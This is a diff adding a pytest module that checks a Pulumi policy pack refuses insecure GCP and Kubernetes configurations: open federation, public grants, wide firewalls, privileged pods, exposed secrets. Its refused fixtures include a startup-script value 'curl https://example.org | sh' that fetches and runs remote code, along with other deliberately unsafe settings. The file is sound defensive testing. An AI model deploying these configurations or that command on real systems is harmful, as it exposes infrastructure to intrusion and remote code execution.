@@ -1,0 +1,503 @@
+"""Graphs that would open a stack to strangers, each with the rule that refuses it."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pulumi
+import pulumi_gcp as gcp
+import pulumi_kubernetes as kubernetes
+import pytest
+
+from infra.policy.base import Bounds
+from infra.policy.grants import PIPELINE
+from infra.policy.rules import apply_rules
+from tests.infra.test_policy_pack import Pack, as_asked, pack  # noqa: F401
+from tests.infra.test_policy_rules import LABELS, THERE, Lab, Program, run
+
+BOUNDS = Bounds(
+    project="my-lab",
+    people=frozenset({"group:lab@example.com"}),
+    cidrs=frozenset({"10.64.0.0/20"}),
+    subjects=frozenset({"Group:lab"}),
+    repository=(11, 22),
+)
+STRANGER = "user:stranger@example.org"
+RBAC = "rbac.authorization.k8s.io"
+GITHUB = "https://token.actions.githubusercontent.com"
+CONDITION = (
+    "assertion.repository_id == '11' && assertion.repository_owner_id == '22'"
+    " && assertion.event_name != 'pull_request_target'"
+)
+DEPLOY_CONDITION = CONDITION + " && assertion.ref == 'refs/heads/main' && assertion.environment == 'production'"
+IAM = "api.getAttribute('iam.googleapis.com/modifiedGrantsByRole', [])"
+
+
+def federation(role: str = "deploy", condition: str | None = DEPLOY_CONDITION, **others: Any) -> Program:
+    def program(lab: Lab) -> None:
+        arguments: dict[str, Any] = {
+            "attribute_mapping": {"google.subject": "assertion.sub", "attribute.role": f"'{role}'"},
+            "oidc": {"issuer_uri": GITHUB},
+        }
+        gcp.iam.WorkloadIdentityPoolProvider(
+            "lab-provider",
+            project="my-lab",
+            workload_identity_pool_id="lab-ci",
+            workload_identity_pool_provider_id=role,
+            attribute_condition=condition,
+            **(arguments | others),
+            opts=lab.opts(),
+        )
+
+    return program
+
+
+def account(lab: Lab, name: str = "head") -> gcp.serviceaccount.Account:
+    return gcp.serviceaccount.Account(f"lab-{name}", account_id=f"lab-{name}", project="my-lab", opts=lab.opts())
+
+
+def account_grant(role: str, member: str | None, *, pool: bool = False) -> Program:
+    def program(lab: Lab) -> None:
+        if pool:
+            gcp.iam.WorkloadIdentityPool("lab-pool", workload_identity_pool_id="lab-ci", opts=lab.opts())
+        made = account(lab)
+        gcp.serviceaccount.IAMMember(
+            "lab-grant",
+            service_account_id=made.name,
+            role=role,
+            member=made.email.apply(lambda email: f"serviceAccount:{email}") if member is None else member,
+            opts=lab.opts(),
+        )
+
+    return program
+
+
+def foreign_account_grant(lab: Lab) -> None:
+    gcp.serviceaccount.IAMMember(
+        "lab-grant",
+        service_account_id="projects/my-lab/serviceAccounts/1234567-compute@developer.gserviceaccount.com",
+        role="roles/iam.serviceAccountUser",
+        member="group:lab@example.com",
+        opts=lab.opts(),
+    )
+
+
+def bucket_grant(member: pulumi.Input[str], role: str = "roles/storage.objectViewer", **others: Any) -> Program:
+    def program(lab: Lab) -> None:
+        gcp.storage.BucketIAMMember("lab-grant", bucket="b", role=role, member=member, **others, opts=lab.opts())
+
+    return program
+
+
+def project_grant(role: str, **others: Any) -> Program:
+    return lambda lab: lab.project_grant(role, **others)
+
+
+def custom_role(*permissions: str) -> Program:
+    return lambda lab: lab.custom_role(*permissions) and None
+
+
+def disguised_role(lab: Lab) -> None:
+    lab.project_grant(lab.custom_role("tpu.nodes.list").name.apply(lambda _: "roles/owner"))
+
+
+def firewall(**others: Any) -> Program:
+    return lambda lab: lab.firewall(**others)
+
+
+def instance(**metadata: str) -> Program:
+    return lambda lab: lab.instance(metadata={"block-project-ssh-keys": "TRUE"} | metadata)
+
+
+def role_of(*rules: dict[str, Any]) -> Program:
+    def program(lab: Lab) -> None:
+        inside = {"name": "r", "namespace": "train", "labels": LABELS}
+        kubernetes.rbac.v1.Role("lab-role", metadata=inside, rules=[*rules], opts=lab.opts())
+
+    return program
+
+
+def rule(group: str, resource: str, *verbs: str) -> dict[str, Any]:
+    return {"api_groups": [group], "resources": [resource], "verbs": [*verbs]}
+
+
+def binding(kind: str, name: str, who: dict[str, Any], namespace: str = "train") -> Program:
+    def program(lab: Lab) -> None:
+        role_of(rule("batch", "jobs", "get"))(lab)
+        kubernetes.rbac.v1.RoleBinding(
+            "lab-binding",
+            metadata={"name": "b", "namespace": namespace, "labels": LABELS},
+            role_ref={"api_group": RBAC, "kind": kind, "name": name},
+            subjects=[who],
+            opts=lab.opts(),
+        )
+
+    return program
+
+
+LAB_GROUP = {"kind": "Group", "name": "lab", "api_group": RBAC}
+
+
+def pod(**spec: Any) -> Program:
+    def program(lab: Lab) -> None:
+        kubernetes.core.v1.Pod(
+            "lab-pod",
+            metadata={"namespace": "train", "labels": LABELS},
+            spec={"containers": [{"name": "c", "image": "debian", **spec.pop("container", {})}], **spec},
+            opts=lab.opts(),
+        )
+
+    return program
+
+
+def namespace(**labels: str) -> Program:
+    def program(lab: Lab) -> None:
+        metadata = {
+            "name": "train",
+            "labels": LABELS | {f"pod-security.kubernetes.io/{k}": v for k, v in labels.items()},
+        }
+        kubernetes.core.v1.Namespace("lab-train", metadata=metadata, opts=lab.opts())
+
+    return program
+
+
+def made(type_: type[pulumi.CustomResource], **inputs: Any) -> Program:
+    return lambda lab: type_("lab-it", **inputs, opts=lab.opts()) and None  # type: ignore[call-overload,no-any-return]
+
+
+def cluster_binding(lab: Lab) -> None:
+    kubernetes.rbac.v1.ClusterRoleBinding(
+        "lab-binding",
+        metadata={"labels": LABELS},
+        role_ref={"api_group": RBAC, "kind": "ClusterRole", "name": "cluster-admin"},
+        subjects=[LAB_GROUP],
+        opts=lab.opts(),
+    )
+
+
+def another_principals_machine(lab: Lab) -> None:
+    lab.instance(
+        service_account={"email": "1234567-compute@developer.gserviceaccount.com", "scopes": ["cloud-platform"]}
+    )
+
+
+TOKEN = "hf_" + "a" * 34
+"""Has the form of a value, and is none."""
+
+USER = "roles/iam.serviceAccountUser"
+FEDERATED = "roles/iam.workloadIdentityUser"
+POOL = "principalSet://iam.googleapis.com/projects/12/locations/global/workloadIdentityPools/lab-ci"
+
+
+def agent_that_is_everybody(lab: Lab) -> None:
+    agent = gcp.projects.ServiceIdentity("lab-agent", service="pubsub.googleapis.com", opts=lab.opts())
+    bucket_grant(agent.service.apply(lambda _: "allUsers"))(lab)
+
+
+def role_of_another_namespace(lab: Lab) -> None:
+    binding("Role", "r", LAB_GROUP, namespace="kube-system")(lab)
+
+
+BAD: dict[str, tuple[str, Program]] = {
+    # federation
+    "federation-without-condition": ("pinned-federation", federation(condition=None)),
+    "federation-with-condition-true": ("pinned-federation", federation(condition="true")),
+    "federation-of-all-of-a-host": ("pinned-federation", federation(condition=f"assertion.iss == '{GITHUB}'")),
+    "federation-by-names": ("pinned-federation", federation(condition="assertion.repository == 'lab/it'")),
+    "federation-with-a-way-round": ("pinned-federation", federation(condition=f"{DEPLOY_CONDITION} || true")),
+    "federation-of-every-branch": ("pinned-federation", federation(condition=CONDITION)),
+    "federation-of-any-branch": (
+        "pinned-federation",
+        federation(condition=DEPLOY_CONDITION.replace("refs/heads/main", "refs/heads/*")),
+    ),
+    "federation-of-another-repository": (
+        "pinned-federation",
+        federation(condition=DEPLOY_CONDITION.replace("'11'", "'12'")),
+    ),
+    "federation-with-a-role-from-the-token": (
+        "pinned-federation",
+        federation(attribute_mapping={"google.subject": "assertion.sub", "attribute.role": "assertion.actor"}),
+    ),
+    "federation-with-another-issuer": ("pinned-federation", federation(oidc={"issuer_uri": "https://example.org"})),
+    "federation-with-own-keys": (
+        "pinned-federation",
+        federation(oidc={"issuer_uri": GITHUB, "jwks_json": '{"keys": []}'}),
+    ),
+    "federation-of-aws": ("pinned-federation", federation(oidc=None, aws={"account_id": "123456789012"})),
+    "federated-everybody": ("allowed-members", account_grant(FEDERATED, f"{POOL}/*", pool=True)),
+    "federated-by-owner": (
+        "allowed-members",
+        account_grant(FEDERATED, f"{POOL}/attribute.repository_owner/lab", pool=True),
+    ),
+    "federated-through-another-pool": (
+        "allowed-members",
+        account_grant(FEDERATED, f"{POOL}-2/attribute.role/deploy", pool=True),
+    ),
+    # grants on accounts and projects
+    "token-creator-on-the-head": ("allowed-roles", account_grant("roles/iam.serviceAccountTokenCreator", None)),
+    "stranger-acts-as-the-head": ("allowed-members", account_grant(USER, STRANGER)),
+    "default-account-acted-as": ("allowed-roles", foreign_account_grant),
+    "organisation-grant": (
+        "allowed-types",
+        made(gcp.organizations.IAMMember, org_id="1", role="roles/viewer", member=STRANGER),
+    ),
+    "folder-grant": (
+        "allowed-types",
+        made(gcp.folder.IAMMember, folder="folders/1", role="roles/viewer", member=STRANGER),
+    ),
+    "billing-grant": (
+        "allowed-types",
+        made(gcp.billing.AccountIamMember, billing_account_id="1", role="roles/billing.admin", member=STRANGER),
+    ),
+    "provider-of-another-project": ("regions", lambda lab: gcp.Provider("other", project="stranger") and None),
+    "owner": ("project-grants", project_grant("roles/owner")),
+    "owner-on-a-topic": (
+        "allowed-roles",
+        made(gcp.pubsub.TopicIAMMember, topic="t", role="roles/owner", member="group:lab@example.com"),
+    ),
+    "project-grant-to-a-stranger": (
+        "allowed-members",
+        made(gcp.projects.IAMMember, project="my-lab", role="roles/logging.logWriter", member=STRANGER),
+    ),
+    "project-grant-elsewhere": (
+        "regions",
+        made(gcp.projects.IAMMember, project="other", role="roles/logging.logWriter", member="group:lab@example.com"),
+    ),
+    "granting-under-condition-true": (
+        "project-grants",
+        project_grant("roles/resourcemanager.projectIamAdmin", condition={"title": "t", "expression": "true"}),
+    ),
+    "granting-of-owner": (
+        "project-grants",
+        project_grant(
+            "roles/resourcemanager.projectIamAdmin",
+            condition={"title": "t", "expression": f"{IAM}.hasOnly(['roles/logging.viewer', 'roles/owner'])"},
+        ),
+    ),
+    "granting-of-what-is-there": (
+        "project-grants",
+        project_grant(
+            "roles/resourcemanager.projectIamAdmin",
+            condition={"title": "t", "expression": f"{IAM}.hasOnly(['roles/logging.viewer']) || true"},
+        ),
+    ),
+    # custom roles
+    "custom-role-that-reads-secrets": ("narrow-custom-roles", custom_role("secretmanager.versions.access")),
+    "custom-role-that-reads-objects": ("narrow-custom-roles", custom_role("storage.objects.get")),
+    "custom-role-that-makes-keys": ("narrow-custom-roles", custom_role("iam.serviceAccountKeys.create")),
+    "custom-role-that-acts-as-others": ("narrow-custom-roles", custom_role("iam.serviceAccounts.implicitDelegation")),
+    "custom-role-that-changes-roles": ("narrow-custom-roles", custom_role("iam.roles.update")),
+    "custom-role-that-grants": ("narrow-custom-roles", custom_role("resourcemanager.projects.setIamPolicy")),
+    "custom-role-of-an-organisation": (
+        "allowed-types",
+        made(gcp.organizations.IAMCustomRole, org_id="1", role_id="r", title="R", permissions=["tpu.nodes.get"]),
+    ),
+    # members
+    "everybody-reads": ("allowed-members", bucket_grant("allUsers")),
+    "every-account-reads": ("allowed-members", bucket_grant("allAuthenticatedUsers")),
+    "domain-of-everybody": ("allowed-members", bucket_grant("domain:gmail.com")),
+    "deleted-account": ("allowed-members", bucket_grant("deleted:user:a@example.com?uid=1")),
+    "convenience-group": ("allowed-members", bucket_grant("projectViewer:my-lab")),
+    "another-projects-account": (
+        "allowed-members",
+        bucket_grant("serviceAccount:worker@stranger-project.iam.gserviceaccount.com"),
+    ),
+    "another-projects-agent": (
+        "allowed-members",
+        bucket_grant("serviceAccount:service-99@gcp-sa-pubsub.iam.gserviceaccount.com"),
+    ),
+    "agent-that-is-everybody": ("allowed-members", agent_that_is_everybody),
+    "another-pools-people": (
+        "allowed-members",
+        bucket_grant("principalSet://iam.googleapis.com/locations/global/workforcePools/p/*"),
+    ),
+    # keys and whole policies
+    "account-key": ("allowed-types", made(gcp.serviceaccount.Key, service_account_id="a")),
+    "hmac-key": ("allowed-types", made(gcp.storage.HmacKey, service_account_email="a@b.c")),
+    "api-key": ("allowed-types", made(gcp.projects.ApiKey, display_name="key")),
+    "policy-of-the-project": ("allowed-types", made(gcp.projects.IAMPolicy, project="my-lab", policy_data="{}")),
+    "binding-of-the-project": (
+        "allowed-types",
+        made(gcp.projects.IAMBinding, project="my-lab", role="roles/viewer", members=["allUsers"]),
+    ),
+    "binding-on-a-topic": (
+        "allowed-types",
+        made(gcp.pubsub.TopicIAMBinding, topic="t", role="roles/pubsub.publisher", members=["allUsers"]),
+    ),
+    "bucket-acl": (
+        "allowed-types",
+        made(gcp.storage.BucketAccessControl, bucket="b", entity="allUsers", role="READER"),
+    ),
+    "default-object-acl": (
+        "allowed-types",
+        made(gcp.storage.DefaultObjectAccessControl, bucket="b", entity="allUsers", role="READER"),
+    ),
+    "object-acl": (
+        "allowed-types",
+        made(gcp.storage.ObjectAccessControl, bucket="b", object="o", entity="allUsers", role="READER"),
+    ),
+    # the contract
+    "contract-open-to-writers": ("closed-contract", bucket_grant("group:lab@example.com", "roles/storage.objectUser")),
+    "contract-open-under-condition-true": (
+        "closed-contract",
+        bucket_grant(
+            "group:lab@example.com", "roles/storage.objectUser", condition={"title": "t", "expression": "true"}
+        ),
+    ),
+    "bucket-administrator": ("allowed-roles", bucket_grant("group:lab@example.com", "roles/storage.admin")),
+    # networks
+    "half-of-everybody-twice": ("closed-firewalls", firewall(source_ranges=["0.0.0.0/1", "128.0.0.0/1"])),
+    "everybody": ("closed-firewalls", firewall(source_ranges=["0.0.0.0/0"])),
+    "everybody-by-ipv6": ("closed-firewalls", firewall(source_ranges=["::/0"])),
+    "public-range-on-a-port": (
+        "closed-firewalls",
+        firewall(source_ranges=["8.8.8.0/24"], allows=[{"protocol": "tcp", "ports": ["8265"]}]),
+    ),
+    "private-range-of-others": ("closed-firewalls", firewall(source_ranges=["10.0.0.0/8"])),
+    "anybody-beside-the-proxy": ("closed-firewalls", firewall(source_ranges=["35.235.240.0/20", "64.0.0.0/2"])),
+    # Kubernetes
+    "rbac-all-verbs": ("narrow-cluster-roles", role_of(rule("batch", "jobs", "*"))),
+    "rbac-all-resources": ("narrow-cluster-roles", role_of(rule("", "*", "get"))),
+    "rbac-all-groups": ("narrow-cluster-roles", role_of(rule("*", "jobs", "get"))),
+    "rbac-reads-secrets": ("narrow-cluster-roles", role_of(rule("", "secrets", "get"))),
+    "rbac-lists-secrets": ("narrow-cluster-roles", role_of(rule("", "secrets", "list", "watch"))),
+    "rbac-escalates": ("narrow-cluster-roles", role_of(rule(RBAC, "roles", "escalate", "bind"))),
+    "rbac-impersonates": ("narrow-cluster-roles", role_of(rule("", "users", "impersonate"))),
+    "rbac-makes-tokens": ("narrow-cluster-roles", role_of(rule("", "serviceaccounts/token", "create"))),
+    "cluster-admin": ("allowed-types", cluster_binding),
+    "cluster-admin-in-a-namespace": ("narrow-cluster-roles", binding("ClusterRole", "cluster-admin", LAB_GROUP)),
+    "role-of-somebody-else": ("narrow-cluster-roles", binding("Role", "powerful", LAB_GROUP)),
+    "role-of-another-namespace": ("narrow-cluster-roles", role_of_another_namespace),
+    "bound-to-masters": (
+        "narrow-cluster-roles",
+        binding("Role", "r", {"kind": "Group", "name": "system:masters", "api_group": RBAC}),
+    ),
+    "bound-to-everybody": (
+        "narrow-cluster-roles",
+        binding("Role", "r", {"kind": "Group", "name": "system:authenticated", "api_group": RBAC}),
+    ),
+    "bound-to-a-stranger": (
+        "narrow-cluster-roles",
+        binding("Role", "r", {"kind": "User", "name": "stranger", "api_group": RBAC}),
+    ),
+    "pod-with-host-path": (
+        "allowed-types",
+        pod(volumes=[{"name": "v", "host_path": {"path": "/"}}]),
+    ),
+    "privileged-pod": ("allowed-types", pod(container={"security_context": {"privileged": True}})),
+    "pod-with-host-network": ("allowed-types", pod(host_network=True, host_pid=True)),
+    "namespace-without-pod-security": ("closed-namespaces", namespace()),
+    "privileged-namespace": ("closed-namespaces", namespace(enforce="privileged")),
+    "namespace-that-only-warns": ("closed-namespaces", namespace(warn="baseline", audit="baseline")),
+    # secret values
+    "token-in-a-config-map": (
+        "allowed-types",
+        made(kubernetes.core.v1.ConfigMap, metadata={"labels": LABELS}, data={"HF_TOKEN": TOKEN}),
+    ),
+    "token-in-metadata": ("no-secret-values", instance(**{"startup-script": f"export A={TOKEN}"})),
+    "token-in-metadata-by-name": ("closed-instances", instance(HF_TOKEN="value")),
+    "keys-in-metadata": ("closed-instances", instance(**{"ssh-keys": "root:ssh-ed25519 A"})),
+    "script-from-elsewhere": ("closed-instances", instance(**{"startup-script-url": "gs://stranger/it"})),
+    "login-without-google": ("closed-instances", instance(**{"enable-oslogin": "FALSE"})),
+    "machine-with-the-default-account": ("closed-instances", another_principals_machine),
+    "secret-version": ("allowed-types", made(gcp.secretmanager.SecretVersion, secret="projects/p/secrets/s")),
+    "kubernetes-secret": (
+        "allowed-types",
+        made(kubernetes.core.v1.Secret, metadata={"labels": LABELS}, string_data={"a": "b"}),
+    ),
+    # what no stack of this program makes
+    "function": ("allowed-types", made(gcp.cloudfunctionsv2.Function, location="us-west4")),
+    "service-that-runs": (
+        "allowed-types",
+        made(gcp.cloudrunv2.Service, location="us-west4", template={"containers": [{"image": "debian"}]}),
+    ),
+    "decrypter": (
+        "allowed-types",
+        made(
+            gcp.kms.CryptoKeyIAMMember,
+            crypto_key_id="k",
+            role="roles/cloudkms.cryptoKeyDecrypter",
+            member=STRANGER,
+        ),
+    ),
+    "log-sink": (
+        "allowed-types",
+        made(gcp.logging.ProjectSink, destination="storage.googleapis.com/stranger"),
+    ),
+    "ssh-keys-of-the-project": ("allowed-types", made(gcp.compute.ProjectMetadata, metadata={"ssh-keys": "a:b"})),
+    "script-of-the-project": (
+        "allowed-types",
+        made(gcp.compute.ProjectMetadataItem, key="startup-script", value="curl https://example.org | sh"),
+    ),
+    "machine-template": (
+        "allowed-types",
+        made(gcp.compute.InstanceTemplate, machine_type="n2-standard-8", disks=[{"source_image": "debian"}]),
+    ),
+}
+
+GOOD: dict[str, Program] = {
+    "federation-to-deploy": federation(),
+    "federation-to-preview": federation("preview", CONDITION),
+    "federated-by-role": account_grant(FEDERATED, f"{POOL}/attribute.role/deploy", pool=True),
+    "lab-acts-as-the-head": account_grant(USER, "group:lab@example.com"),
+    "head-acts-as-itself": account_grant(USER, None),
+    "group-reads": bucket_grant("group:lab@example.com"),
+    "binding": binding("Role", "r", LAB_GROUP),
+    "proxy-and-inside": firewall(source_ranges=["35.235.240.0/20", "10.64.0.0/20"]),
+    "machine": instance(**{"startup-script": "true", "enable-oslogin": "TRUE", "ray-settings": "{}"}),
+}
+OPENING = {
+    "allowed-types",
+    "allowed-roles",
+    "allowed-members",
+    "project-grants",
+    "narrow-custom-roles",
+    "narrow-cluster-roles",
+    "pinned-federation",
+    "closed-contract",
+    "closed-firewalls",
+    "closed-instances",
+    "no-secret-values",
+}
+"""Rules against strangers; the small programs here break others, such as the one about labels."""
+
+
+@pytest.mark.parametrize("name", BAD)
+def test_graph_that_opens_a_stack_is_refused_by_its_rule(name: str) -> None:
+    expected, program = BAD[name]
+
+    assert expected in {each.rule for each in apply_rules(run(program).resources, BOUNDS)}
+
+
+@pytest.mark.parametrize("name", BAD)
+def test_graph_that_opens_a_stack_is_refused_by_the_pack(name: str, pack: Pack) -> None:  # noqa: F811
+    expected, program = BAD[name]
+    recording = run(program)
+
+    # The pack of this test has the bounds of no stack; the engine shows it no resource without inputs.
+    unbounded = {each.rule for each in apply_rules(recording.resources)}
+    found = {found for found, _, _ in pack.judge(recording, as_asked)}
+
+    assert expected in found or expected not in unbounded
+
+
+@pytest.mark.parametrize("name", GOOD)
+def test_graph_that_opens_nothing_is_let_through(name: str) -> None:
+    found = [each for each in apply_rules(run(GOOD[name]).resources, BOUNDS) if each.rule in OPENING]
+
+    assert found == []
+
+
+def test_owner_in_the_place_of_a_custom_role_is_refused_once_it_is_known() -> None:
+    found = {each.rule for each in apply_rules(run(disguised_role, day=THERE).resources, BOUNDS)}
+
+    assert "project-grants" in found
+
+
+def test_pipeline_may_grant_roles_of_heads_and_people_only() -> None:
+    allowed = {"title": "t", "expression": f"{IAM}.hasOnly(['roles/logging.viewer'])"}
+    program = project_grant("roles/resourcemanager.projectIamAdmin", condition=allowed)
+
+    found = [each.rule for each in apply_rules(run(program, component=PIPELINE).resources, BOUNDS)]
+
+    assert "project-grants" not in found
